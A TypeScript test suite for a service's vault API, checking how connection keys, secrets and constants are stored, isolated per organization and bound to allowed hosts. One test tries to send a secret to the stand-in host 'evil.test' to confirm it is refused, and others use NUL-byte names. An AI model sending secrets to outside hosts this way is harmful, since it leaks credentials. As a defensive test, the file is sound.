import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ServedSimulators } from '@headrace/sandbox/kit/serve-simulators';
import { serveSimulators } from '@headrace/sandbox/kit/serve-simulators';
import { simulators } from '@headrace/sandbox/simulators';
import { createWorld } from '@headrace/sandbox';
import {
  connection,
  connections,
  connectionTest,
  constant,
  constants,
  secret,
  secrets,
} from '../src/contract/vault.ts';
import { expectProblem } from './expect-problem.ts';
import type { Call, TestService } from './service.ts';
import { callApi, describeOnBothHomes, startService } from './service.ts';
import type { RepeatingTarget } from './security/repeating-target.ts';
import { startRepeatingTarget } from './security/repeating-target.ts';
import { runOf } from './wait-for.ts';

const key = 'sk-live-0123456789-abcd';

const paths: [method: string, path: string, body?: object][] = [
  ['GET', '/v1/connections'],
  ['POST', '/v1/connections', { provider: 'hunter', key }],
  ['PUT', '/v1/connections/hunter_0123456789abcdef', { key }],
  ['POST', '/v1/connections/hunter_0123456789abcdef/test'],
  ['DELETE', '/v1/connections/hunter_0123456789abcdef'],
  ...['secrets', 'constants'].flatMap((kind): [string, string, object?][] => [
    ['GET', `/v1/${kind}`],
    ['GET', `/v1/${kind}/KEY`],
    ['PUT', `/v1/${kind}/KEY`, { value: 'v' }],
    ['DELETE', `/v1/${kind}/KEY`],
  ]),
];

/** A run of one record that sends this text to a target. */
const send = async (call: Call, url: string, body: string, environment = 'production') => {
  const request = {
    pipes: [{ pipe_id: 'http:request@1', config: { url, method: 'POST', body } }],
    input: [{ id: 1, name: 'Jane' }],
    config: { environment },
  };
  const { records } = runOf(await call('/v1/pipes/run/sync', { body: request }));
  return records['1']?.fields.http_response_body;
};

describeOnBothHomes('the vault', (home) => {
  let service: TestService;
  let vendors: ServedSimulators;
  let target: RepeatingTarget;
  beforeAll(async () => {
    vendors = await serveSimulators({ simulators, world: createWorld(), port: 0, host: '127.0.0.1' });
    target = await startRepeatingTarget([]);
    service = await startService(home, {
      HEADRACE_PROVIDER_URLS: `*=${vendors.url}/vendors/{id}`,
      HEADRACE_ALLOW_PRIVATE_HOSTS: '127.0.0.1',
    });
  });
  afterAll(async () => {
    await service.stop();
    await vendors.close();
    target.stop();
  });

  const create = async (call: Call, body: object = {}) => {
    const answer = await call('/v1/connections', { body: { provider: 'hunter', key, ...body } });
    expect(answer.status).toBe(200);
    return connection.parse(answer.json);
  };
  const list = async (call: Call) => connections.parse((await call('/v1/connections')).json).connections;
  const put = (call: Call, path: string, body: object) => call(path, { method: 'PUT', body });
  const remove = (call: Call, path: string) => call(path, { method: 'DELETE' });

  describe('connections', () => {
    it('are created, listed, rotated and deleted, and never show their key', async () => {
      const { call } = await service.createOrganization('free');
      const made = await create(call, { name: 'Sales' });
      expect(made.id).toMatch(/^hunter_[a-z0-9]{16}$/);
      expect(made).toMatchObject({ provider: 'hunter', name: 'Sales', hint: 'abcd', rotated_at: null });
      const other = await create(call, { provider: 'resend', key: 'short' });
      expect(other).toMatchObject({ hint: null, last_used_at: null });
      expect(await list(call)).toEqual([made, other]);
      const rotated = await put(call, `/v1/connections/${made.id}`, { key: 'sk-live-0123456789-wxyz\n' });
      expect(connection.parse(rotated.json)).toEqual({
        ...made,
        hint: 'wxyz',
        rotated_at: expect.any(String),
      });
      expect((await remove(call, `/v1/connections/${made.id}`)).status).toBe(204);
      expectProblem(await remove(call, `/v1/connections/${made.id}`), 'not-found');
      expect(await list(call)).toEqual([other]);
    });

    it('can be tested by a free call to the provider', async () => {
      const test = async (id: string) => {
        const answer = await service.call(`/v1/connections/${id}/test`, { method: 'POST' });
        return connectionTest.parse(answer.json);
      };
      expect(await test((await create(service.call)).id)).toMatchObject({ ok: true, code: null });
      const refused = await create(service.call, { key: 'an-invalid-key' });
      expect(await test(refused.id)).toMatchObject({ ok: false, code: 'ConnectionRejected' });
    });

    it.each([
      ['a mistyped provider', { provider: 'huntr', key }, 'provider', 'Did you mean "hunter"?'],
      ['no key', { provider: 'hunter' }, 'key', ''],
      ['a blank key', { provider: 'hunter', key: ' \n' }, 'key', ''],
      ['a key of two lines', { provider: 'hunter', key: `${key}\n${key}` }, 'key', 'on one line'],
      ['an unknown member', { provider: 'hunter', key, nam: 'x' }, undefined, 'Did you mean "name"?'],
    ])('one with %s is refused', async (_, body, path, message) => {
      const answer = await service.call('/v1/connections', { body });
      const { errors } = expectProblem(answer, 'invalid-request');
      expect(errors?.[0]?.path).toBe(path);
      expect(errors?.[0]?.message).toContain(message);
      expect(answer.text).not.toContain(key);
    });

    it.each(['hunter_0123456789abcdef', 'x', 'a%00b', '%F0%9F%94%91'])(
      'there is none called %s',
      async (id) => {
        expectProblem(await put(service.call, `/v1/connections/${id}`, { key }), 'not-found');
        expectProblem(await remove(service.call, `/v1/connections/${id}`), 'not-found');
        const test = await service.call(`/v1/connections/${id}/test`, { method: 'POST' });
        expectProblem(test, 'not-found');
      },
    );

    it('of another organization do not exist', async () => {
      const mine = await service.createOrganization('free');
      const theirs = await service.createOrganization('free');
      const { id } = await create(mine.call);
      expect(await list(theirs.call)).toEqual([]);
      expectProblem(await put(theirs.call, `/v1/connections/${id}`, { key }), 'not-found');
      expectProblem(await remove(theirs.call, `/v1/connections/${id}`), 'not-found');
      const test = await theirs.call(`/v1/connections/${id}/test`, { method: 'POST' });
      expectProblem(test, 'not-found');
      const body = (connectionId: string, pipe_id = 'person:workemail:waterfall@1') => ({
        pipes: [
          {
            pipe_id,
            connector: { connections: [{ type: 'vault', connection: connectionId }] },
          },
        ],
        config: { environment: 'sandbox' },
        input: [{ id: 1, name: 'Jane Doe', company_domain: 'acme.com', string_input: 'a' }],
      });
      const refused = await theirs.call('/v1/pipes/run', { body: body(id) });
      expect(expectProblem(refused, 'unknown-connection').errors?.[0]?.code).toBe('UnknownConnection');
      const nul = await theirs.call('/v1/pipes/run', { body: body('hunter_\0') });
      expectProblem(nul, 'unknown-connection');
      expect((await mine.call('/v1/pipes/run', { body: body(id) })).status).toBe(200);
      const useless = await mine.call('/v1/pipes/run', { body: body(id, 'field:slugify@1') });
      const unfit = { code: 'ConnectionUnfit', message: expect.stringContaining(id) };
      expect([useless.status, useless.json]).toMatchObject([400, { errors: [unfit] }]);
    });
  });

  describe('secrets and constants', () => {
    it('are set, replaced, listed and deleted; only constants show their value', async () => {
      const { call } = await service.createOrganization('free');
      await put(call, '/v1/secrets/TOKEN_1', { value: 'first' });
      const set = await put(call, '/v1/secrets/TOKEN_1', { value: 'second' });
      const made = secret.parse(set.json);
      expect(made.key).toBe('TOKEN_1');
      expect(secret.parse((await call('/v1/secrets/TOKEN_1')).json)).toEqual(made);
      expect(secrets.parse((await call('/v1/secrets')).json).secrets).toEqual([made]);
      const plain = constant.parse((await put(call, '/v1/constants/TEAM', { value: 'Sales 🚀' })).json);
      expect(plain.value).toBe('Sales 🚀');
      expect(constant.parse((await call('/v1/constants/TEAM')).json)).toEqual(plain);
      expect(constants.parse((await call('/v1/constants')).json).constants).toEqual([plain]);
      for (const path of ['/v1/secrets/TOKEN_1', '/v1/constants/TEAM']) {
        expect((await remove(call, path)).status).toBe(204);
        expectProblem(await remove(call, path), 'not-found');
        expectProblem(await call(path), 'not-found');
      }
    });

    const text = '{{ name }} {{ SECRETS.TOKEN }} {{ CONSTANTS.TEAM }}';

    it('go out with requests, a change at once', async () => {
      const { call } = await service.createOrganization('free');
      const fill = () => send(call, target.url, text);
      const allowed_hosts = [new URL(target.url).host];
      expect(await fill()).toMatchObject({ status: 'failed', reason: { code: 'MissingSecret' } });
      await put(call, '/v1/secrets/TOKEN', { value: 'Secret-1', allowed_hosts });
      expect(await fill()).toMatchObject({ reason: { code: 'MissingConstant' } });
      await put(call, '/v1/constants/TEAM', { value: 'c1' });
      expect(await fill()).toMatchObject({ status: 'completed' });
      await put(call, '/v1/constants/TEAM', { value: 'c2' });
      expect(JSON.stringify(await fill())).toContain('Jane [secret] c2');
      await remove(call, '/v1/constants/TEAM');
      expect(await fill()).toMatchObject({ reason: { code: 'MissingConstant' } });
      for (const sent of ['Jane Secret-1 c1', 'Jane Secret-1 c2']) expect(target.heard()).toContain(sent);
    });

    it('go to the hosts an admin named, and keep them when their value changes', async () => {
      const { call } = await service.createOrganization('free');
      await put(call, '/v1/constants/TEAM', { value: 'c' });
      const refused = { status: 'failed', reason: { code: 'TargetRefused' } };
      const set = async (body: object) => secret.parse((await put(call, '/v1/secrets/TOKEN', body)).json);
      expect((await set({ value: 'Unbound-1' })).allowed_hosts).toEqual([]);
      expect(await send(call, target.url, text)).toMatchObject(refused);
      const allowed_hosts = ['api.acme.com', new URL(target.url).host];
      expect((await set({ value: 'Bound-2', allowed_hosts })).allowed_hosts).toEqual(allowed_hosts);
      expect(await send(call, target.url, text)).toMatchObject({ status: 'completed' });
      expect((await set({ value: 'Bound-3' })).allowed_hosts).toEqual(allowed_hosts);
      expect(await send(call, target.url, text)).toMatchObject({ status: 'completed' });
      expect(await send(call, target.url.replace('127.0.0.1', 'localhost'), text)).toMatchObject(refused);
      expect((await set({ value: 'Bound-4', allowed_hosts: [] })).allowed_hosts).toEqual([]);
      expect(await send(call, target.url, text)).toMatchObject(refused);
      const heard = (value: string) => target.heard().includes(`Jane ${value} c`);
      expect(['Unbound-1', 'Bound-2', 'Bound-3', 'Bound-4'].map(heard)).toEqual([false, true, true, false]);
    });

    it('are not what a sandbox sends, which has their look', async () => {
      const { call } = await service.createOrganization('free');
      await put(call, '/v1/secrets/TOKEN', { value: 'Ab1', allowed_hosts: ['api.acme.com'] });
      const answer = await send(call, 'https://api.acme.com/', 'It is {{ SECRETS.TOKEN }}.', 'sandbox');
      expect(JSON.stringify(answer)).toContain('It is Xx0.');
      expect(await send(call, 'https://evil.test/', '{{ SECRETS.TOKEN }}', 'sandbox')).toMatchObject({
        reason: { code: 'TargetRefused' },
      });
    });

    it('are per organization', async () => {
      const mine = await service.createOrganization('free');
      const theirs = await service.createOrganization('free');
      await put(mine.call, '/v1/secrets/TOKEN', { value: 's1' });
      expectProblem(await theirs.call('/v1/secrets/TOKEN'), 'not-found');
      expect(await send(theirs.call, target.url, '{{ SECRETS.TOKEN }}')).toMatchObject({
        reason: { code: 'MissingSecret' },
      });
    });

    it.each([
      ['a name in small letters', '/v1/secrets/token', { value: 'v' }],
      ['a name with a digit first', '/v1/constants/1A', { value: 'v' }],
      ['a NUL in its name', '/v1/constants/A%00', { value: 'v' }],
      ['an empty value', '/v1/secrets/TOKEN', { value: '' }],
      ['a value that is no text', '/v1/secrets/TOKEN', { value: 1 }],
      ['a value that is too long', '/v1/secrets/TOKEN', { value: 'x'.repeat(10_001) }],
      ['any host', '/v1/secrets/TOKEN', { value: 'v', allowed_hosts: ['*'] }],
      ['a URL for a host', '/v1/secrets/TOKEN', { value: 'v', allowed_hosts: ['https://acme.com'] }],
      ['hosts for a constant', '/v1/constants/TEAM', { value: 'v', allowed_hosts: [] }],
      ['a NUL in a constant', '/v1/constants/TEAM', { value: 'a\0b' }],
    ])('one with %s is refused', async (_, path, body) => {
      expectProblem(await put(service.call, path, body), 'invalid-request');
    });
  });

  describe('keys', () => {
    it.each(paths)('of members and of the public get 403: %s %s', async (method, path, body) => {
      const { id, publicKeys } = await service.createOrganization('free');
      const member = await service.operate('/operator/keys', { body: { organization_id: id, name: 'M' } });
      for (const apiKey of [member.json.api_key, publicKeys[0]]) {
        expectProblem(await callApi(service.url, path, { method, body, apiKey }), 'forbidden');
      }
      expectProblem(await callApi(service.url, path, { method, body, apiKey: null }), 'unauthorized');
    });
  });

  describe('managed credentials', () => {
    it('are set, listed and deleted by the operator alone', async () => {
      const path = '/operator/managed-credentials';
      expect((await put(service.operate, `${path}/hunter`, { key })).status).toBe(204);
      expect((await put(service.operate, `${path}/hunter`, { key: 'sk-live-0123456789-wxyz' })).status).toBe(
        204,
      );
      const listed = await service.operate(path);
      expect(listed.json.managed_credentials).toEqual([
        expect.objectContaining({ provider: 'hunter', source: 'vault', hint: 'wxyz' }),
      ]);
      expect(listed.text).not.toContain('0123456789');
      const test = await service.operate(`${path}/hunter/test`, { method: 'POST' });
      expect(connectionTest.parse(test.json).ok).toBe(true);
      expectProblem(await service.operate(`${path}/resend/test`, { method: 'POST' }), 'not-found');
      const unknown = await put(service.operate, `${path}/huntr`, { key });
      expect(expectProblem(unknown, 'invalid-request').detail).toContain('Did you mean "hunter"?');
      expectProblem(await service.call(path), 'unauthorized');
      expect((await remove(service.operate, `${path}/hunter`)).status).toBe(204);
      expectProblem(await remove(service.operate, `${path}/hunter`), 'not-found');
    });
  });
});
